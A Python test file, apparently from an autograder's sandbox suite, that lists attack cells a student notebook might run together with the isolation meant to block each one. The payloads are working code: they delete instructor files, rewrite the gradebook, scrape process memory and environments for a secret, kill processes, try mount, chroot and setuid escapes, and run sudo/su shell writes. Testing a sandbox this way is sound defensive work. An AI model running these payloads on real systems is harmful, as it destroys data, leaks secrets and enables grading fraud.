"""Attacks on what lies outside: files, other processes, the network, the kernel, and the course's secret.

In: the student edition. Out: cells that read, write, signal and connect where they should not be able to.
These must never run outside of the sandbox.
"""

from __future__ import annotations

from attacks.attack import BOTH, CATCH, WRONG, Attack, answer, cheat, own_cell
from attacks.harms import heard, lies_at, outside_changed, planted

MOUNTS = "own mount namespace: the course is not there, all else is read-only"
PIDS = "own process namespace"
NETWORK = "own network namespace, which is empty"
KERNEL = "no capabilities, no new privileges, a filter on system calls"
CHECKER_ONLY = "the secret and hidden tests are in the checker's process only"

TRY = (
    CATCH
    + """
def attempt(action, name=""):
    try:
        found = action()
        print(name, found if found is not None else "")
        return found
    except BaseException as error:
        print(name, type(error).__name__)
import ctypes, glob, os, signal, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
def write_outside():
    open("@OUTSIDE@/roster.csv", "a").write("mallory,100\\n")
"""
)

DELETE = """
import shutil
attempt(lambda: os.remove("@OUTSIDE@/roster.csv"))
attempt(lambda: shutil.rmtree("@OUTSIDE@"))
attempt(lambda: shutil.rmtree("@ROOT@/solutions"))
attempt(write_outside)
"""

READ_OTHERS = """
import json
for path in glob.glob("@ROOT@/grading/submitted/*/*/01_perceptron.ipynb") + glob.glob("/**/01_perceptron.ipynb"):
    for cell in json.load(open(path))["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            attempt(lambda: exec("".join(cell["source"]), globals()))
"""

READ_SOLUTIONS = """
for path in ["@ROOT@/solutions/week00/01_perceptron.py", *glob.glob("/**/solutions/**/*.py", recursive=True)[:50]]:
    text = attempt(lambda: open(path).read())
    if text:
        attempt(lambda: exec(text.replace("# %%", "#").partition("BEGIN HIDDEN")[0], globals()))
"""

GRADEBOOK = """
import sqlite3
def pay():
    book = sqlite3.connect("@ROOT@/grading/gradebook.db")
    book.execute("UPDATE grade SET auto_score = 5, manual_score = 5, extra_credit = 100")
    book.commit()
attempt(pay)
"""

OWN_FILE = """
for folder in (".", "..", "/tmp", "/run", "/work", os.path.expanduser("~"), sys.path[0] or "."):
    for path in glob.glob(folder + "/**/*", recursive=True)[:500]:
        if os.path.isfile(path) and os.path.getsize(path) < 10**6:
            text = open(path, errors="replace").read()
            if "HIDDEN" + " TESTS" in text:
                print(text)
"""

ENVIRON = """
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/task/*/environ"):
    attempt(lambda: open(path, errors="replace").read(), path)
attempt(lambda: ctypes.string_at(ctypes.cast(libc.environ, ctypes.c_void_p).value, 1 << 16), "environ")
"""

MEMORY = """
def search(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            low, _, high = line.split()[0].partition("-")
            if "r" in line.split()[1] and int(high, 16) - int(low, 16) < 1 << 27:
                try:
                    memory.seek(int(low, 16))
                    part = memory.read(int(high, 16) - int(low, 16))
                except (OSError, ValueError, OverflowError):
                    continue
                for word in (b"GROUNDUP_" + b"SECRET", b"BEGIN " + b"HIDDEN", b"canary-" + b"of-the"):
                    for place in range(3):
                        at = part.find(word, part.find(word) + 1 if place else 0)
                        print(pid, part[max(at - 20, 0) : at + 300] if at >= 0 else "")
for path in glob.glob("/proc/[0-9]*"):
    attempt(lambda: search(int(path.rpartition("/")[2])), path)
"""

OBJECTS = """
import gc
words = ("HIDDEN" + " TESTS", "SECRET", "canary-" + "of")
texts = [value for thing in gc.get_objects() for value in gc.get_referents(thing) if isinstance(value, str)]
print([text[:400] for text in texts if any(word in text for word in words) and "gc.get_objects" not in text][:200])
print([vars(module) for name, module in list(sys.modules.items()) if "fresh" in name or "grading" in name])
"""

FDS = """
for fd in range(3, 300):
    attempt(lambda: print(fd, os.readlink(f"/proc/self/fd/{fd}")))
    for path in (f"/proc/self/fd/{fd}", f"/proc/self/fd/{fd}/../../../@ROOT@/solutions/week00/01_perceptron.py"):
        attempt(lambda: open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), errors="replace").read(5000), path)
for path in glob.glob("/proc/*/fd/*") + glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd"):
    attempt(lambda: os.readlink(path), path)
for path in glob.glob("/proc/[0-9]*/root@OUTSIDE@/roster.csv"):
    attempt(lambda: open(path, "a").write("mallory,100\\n"))
"""

PTRACE = """
for pid in range(1, 3000):
    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:
        print("attached" + "=" + str(pid))
if libc.ptrace(0, 0, 0, 0) == 0:
    print("attached" + "=traceme")
"""

SIGNALS = """
me = os.getpid()
for pid in [-1, *range(2, 3000)]:
    if pid != me and pid != os.getppid():
        attempt(lambda: os.kill(pid, signal.SIGKILL)) if pid < 0 else libc.kill(pid, signal.SIGKILL)
"""

PARENT = """
def spread(X):
    os.kill(os.getppid() or 1, signal.SIGKILL)
    os.kill(1, signal.SIGKILL)
    return 0.0
"""

MOUNT = """
for flags in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x7E020000):
    if libc.unshare(flags) == 0:
        print("unshared" + "=" + hex(flags))
mounts = (b"none", b"/tmp", b"tmpfs", 0, None), (None, b"/", None, 32 | 4096, None), (b"/", b"/tmp", None, 4096, None)
for given in mounts:
    if libc.mount(*given) == 0:
        print("mounted" + "=yes")
attempt(lambda: os.chroot("/tmp") or print("chroot" + "ed=yes"))
attempt(lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)) or print("made" + "=device"))
attempt(write_outside)
"""

SETUID = """
for pid in (0, 1, 1000):
    attempt(lambda: os.setresgid(pid, pid, pid)), attempt(lambda: os.setresuid(pid, pid, pid))
    attempt(write_outside)
attempt(lambda: libc.prctl(38, 0, 0, 0, 0))
for command in ("sudo -n sh -c 'echo m >> @OUTSIDE@/roster.csv'", "su -c 'echo m >> @OUTSIDE@/roster.csv'"):
    attempt(lambda: os.system(command + " < /dev/null"))
"""

KERNEL_CALLS = """
for name, number, given in (
    ("keyctl", 250, (0, -3, 1)), ("add_key", 248, (b"user", b"groundup", b"x", 1, -3)), ("bpf", 321, (0, 0, 0)),
    ("perf_event_open", 298, (0, 0, -1, -1, 0)), ("io_uring_setup", 425, (8, bytes(200))), ("userfaultfd", 323, (0,)),
    ("process_vm_readv", 310, (1, 0, 0, 0, 0, 0)), ("open_by_handle_at", 304, (-1, bytes(64), 0)),
):
    if libc.syscall(number, *given) >= 0:
        print("allowed" + "=" + name)
"""

PLANT = """
import sysconfig
places = [sysconfig.get_path("purelib"), os.path.dirname(np.__file__), os.path.expanduser("~"), "/tmp", "/var/tmp"]
import groundup
for folder in [*places, os.path.dirname(groundup.__file__), "@ROOT@", "@OUTSIDE@", *sys.path]:
    attempt(lambda: open(os.path.join(folder, "groundup-attack"), "w").write("x"), folder)
"""

SHARED = """
from multiprocessing import shared_memory
attempt(lambda: shared_memory.SharedMemory("groundup-attack", create=True, size=1 << 20))
attempt(lambda: open("/dev/shm/groundup-attack", "w").write("x"))
attempt(lambda: libc.shmget(75311, 1 << 20, 0o1666))
"""

CONNECT = """
def say(family, address, name):
    s = socket.socket(family)
    s.settimeout(1)
    s.connect(address)
    s.sendall(name.encode() + b"\\n")
"""

DROP = "attempt(lambda: say(socket.AF_UNIX, '\\0groundup-attack-@PORT@', 'abstract_socket'))"
SHELL_OUT = "get_ipython().system('echo mallory >> @OUTSIDE@/roster.csv')"


def _reads(name: str, story: str, source: str, stops: str, **more: str) -> Attack:
    """Looks for what it should not see, with wrong answers."""
    return Attack(name, story, own_cell(TRY + source, WRONG, last=True), stops, BOTH, **more)  # type: ignore[arg-type]


REACH = (
    Attack("delete_files", "deletes the instructor's files", own_cell(TRY + DELETE), MOUNTS, harm=outside_changed,
           plain="20 of 20", plain_harm="the instructor's file is deleted"),
    Attack("read_others", "takes the answers of another student", cheat(TRY + READ_OTHERS), MOUNTS, BOTH,
           plain="20 of 20", plain_harm="undeserved"),
    Attack("read_solutions", "takes the solutions of the course", cheat(TRY + READ_SOLUTIONS), MOUNTS, BOTH,
           plain="20 of 20", plain_harm="undeserved"),
    Attack("gradebook_write", "writes points into the gradebook", cheat(TRY + GRADEBOOK), MOUNTS, BOTH,
           plain="20 of 20", plain_harm="undeserved"),
    _reads("own_autograded_file", "reads the hidden tests from the notebook that is being graded", OWN_FILE,
           "hidden tests are never on a disk that students' code sees", plain="0", plain_harm="hidden tests read"),
    Attack("network", "connects to the instructor's machine",
           own_cell(TRY + CONNECT + "attempt(lambda: say(socket.AF_INET, ('127.0.0.1', @PORT@), 'network'))"), NETWORK,
           harm=heard("network"), plain="20 of 20", plain_harm="the network is reached"),
    Attack("abstract_socket", "connects to an abstract Unix socket", own_cell(TRY + CONNECT + DROP), NETWORK,
           harm=heard("abstract_socket")),
    _reads("read_environ", "reads the secret from the environment of every process", ENVIRON, CHECKER_ONLY),
    _reads("read_memory", "reads the memory of every process for the secret and the tests", MEMORY, CHECKER_ONLY),
    _reads("read_objects", "searches all objects and modules for the secret and the tests", OBJECTS, CHECKER_ONLY),
    Attack("read_files_held", "reads what its open files and other processes' folders lead to",
           own_cell(TRY + FDS, WRONG, last=True), "no inherited files", BOTH, may_fault=True, harm=outside_changed),
    Attack("ptrace", "attaches to every process as a debugger", own_cell(TRY + PTRACE), KERNEL, may_lose=BOTH,
           leaks=("attached=",)),
    Attack("kill_others", "sends SIGKILL to every process", own_cell(TRY + SIGNALS), PIDS, may_lose=BOTH),
    Attack("kill_parent", "kills its parent in an answer",
           answer(spread=TRY + PARENT), PIDS, ("spread",), may_lose=("center",)),
    Attack("mount", "makes namespaces, mounts, a new root and a disk of its own", own_cell(TRY + MOUNT), KERNEL,
           harm=outside_changed, leaks=("unshared=", "mounted=", "chrooted=", "made=device")),
    Attack("setuid", "becomes root, or somebody else", own_cell(TRY + SETUID), KERNEL, harm=outside_changed),
    Attack("kernel_calls", "asks the kernel for keys, BPF, io_uring and other processes' memory",
           own_cell(TRY + KERNEL_CALLS), KERNEL, leaks=("allowed=",)),
    Attack("plant", "writes into Python's folders, so that the next one runs it", own_cell(TRY + PLANT), MOUNTS,
           harm=planted),
    Attack("shared_memory", "leaves shared memory on the machine", own_cell(TRY + SHARED),
           "own IPC namespace and /dev/shm", harm=lies_at("/dev/shm")),
    Attack("shell", "runs a shell that writes outside", own_cell(TRY + SHELL_OUT), MOUNTS, harm=outside_changed),
)  # fmt: skip
